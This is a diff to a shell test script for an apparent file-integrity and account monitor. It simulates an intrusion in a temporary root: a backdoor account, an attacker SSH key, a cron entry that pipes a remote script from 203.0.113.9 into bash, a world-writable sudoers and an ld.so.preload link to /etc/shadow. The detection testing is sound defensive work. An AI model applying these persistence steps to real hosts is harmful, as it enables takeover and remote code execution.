@@ -71,7 +71,10 @@ SHA=$(sha256sum "$T/.gitlab/kthreaddw" | cut -d' ' -f1)
 
 # --- a test root: accounts ---------------------------------------------------------
 R="$T/root"
-mkdir -p "$R/etc"
+mkdir -p "$R/etc/cron.d" "$R/home/git/.ssh" "$R/var/spool/cron"
+echo '# sudoers' >"$R/etc/sudoers"; chmod 440 "$R/etc/sudoers"
+echo '0 3 * * * root /usr/local/bin/backup' >"$R/etc/cron.d/backup"
+echo 'alias ll="ls -l"' >"$R/home/git/.bashrc"
 printf 'root:x:0:0:root:/root:/bin/bash\ngit:x:998:998::/home/git:/sbin/nologin\ntoor:x:0:0::/root:/bin/sh\n' >"$R/etc/passwd"
 echo 127.0.0.1 >"$T/mining.txt"
 
@@ -104,6 +107,7 @@ expect sock_state "ESTABLISHED" has "$T/msock.jsonl" '"state":"ESTABLISHED"'
 expect sock_exe "sock carries the process" has "$T/msock.jsonl" "\"exe\":\"$T/.gitlab/kthreaddw\""
 expect account_uid0 "toor uid0" hasE "$T/ev1.jsonl" '"what":"account".*"user":"toor".*"change":"uid0"|"change":"uid0".*"user":"toor"'
 expect account_no_created_first "a first run has no baseline" sh -c "! grep -q '\"change\":\"created\"' '$T/ev1.jsonl'"
+expect fim_baseline_first "$(cat "$T/once.err")" has "$T/once.err" "baseline recorded"
 expect spool_mode_0600 "$(ls -l "$SP")" sh -c "[ \"\$(stat -c %a '$SP')\" = 700 ]"
 expect summary_counts "$(cat "$T/once.err")" hasE "$T/once.err" 'host records [1-9]'
 
@@ -117,6 +121,11 @@ fi
 
 # --- a second cycle: account changes against the saved baseline; nothing re-read ----
 printf 'root:x:0:0:root:/root:/bin/bash\ngit:x:998:998::/home/git:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nbackdoor:x:1500:1500::/home/b:/bin/bash\n' >"$R/etc/passwd"
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker@evil' >"$R/home/git/.ssh/authorized_keys"
+echo '*/5 * * * * git wget -q -O - http://203.0.113.9/gi.sh | bash' >"$R/var/spool/cron/git"
+chmod 666 "$R/etc/sudoers"
+rm "$R/etc/cron.d/backup"
+ln -s /etc/shadow "$R/etc/ld.so.preload"
 NBEFORE=$(ls "$SP"/*.hostevents.jsonl | wc -l)
 run_once >/dev/null 2>"$T/two.err"; rc=$?
 expect second_exit_0 "exit $rc: $(tail -3 "$T/two.err")" test $rc -eq 0
@@ -124,6 +133,16 @@ LAST=$(ls "$SP"/*.hostevents.jsonl | sort | tail -1)
 expect account_created "$(grep account "$LAST" | head -3)" hasE "$LAST" '"user":"backdoor".*"change":"created"|"change":"created".*"user":"backdoor"'
 expect account_shell "git gained a shell" hasE "$LAST" '"user":"git".*"change":"shell"|"change":"shell".*"user":"git"'
 expect account_uid0_once "toor is not reported again" sh -c "! grep -q '\"user\":\"toor\"' '$LAST'"
+fe() { grep '"what":"file"' "$LAST" | grep -F "\"path\":\"$1\"" | grep -q "\"change\":\"$2\""; }
+expect fim_authorized_keys_created "$(grep '"file"' "$LAST" | cut -c1-200)" fe /home/git/.ssh/authorized_keys created
+expect fim_crontab_created "crontab" fe /var/spool/cron/git created
+expect fim_passwd_modified "passwd" fe /etc/passwd modified
+expect fim_passwd_diff "a unified diff" has "$LAST" '+backdoor:x:1500:1500::/home/b:/bin/bash'
+expect fim_sudoers_mode "mode" fe /etc/sudoers mode
+expect fim_sudoers_mode_detail "mode 100440->100666" has "$LAST" 'mode 100440->100666'
+expect fim_cron_deleted "deleted" fe /etc/cron.d/backup deleted
+expect fim_symlink_not_followed "ld.so.preload is a link, recorded as created, not read" fe /etc/ld.so.preload created
+expect fim_unchanged_quiet ".bashrc did not change" sh -c "! grep -q '\"path\":\"/home/git/.bashrc\"' '$LAST'"
 N2=$(wc -l <"$LAST")
 expect second_reads_only_new "$(cat "$T/two.err") vs $N2 lines" has "$T/two.err" "host records $N2;"
 expect spool_grew_by_one "$NBEFORE -> $(ls "$SP"/*.hostevents.jsonl | wc -l)" \
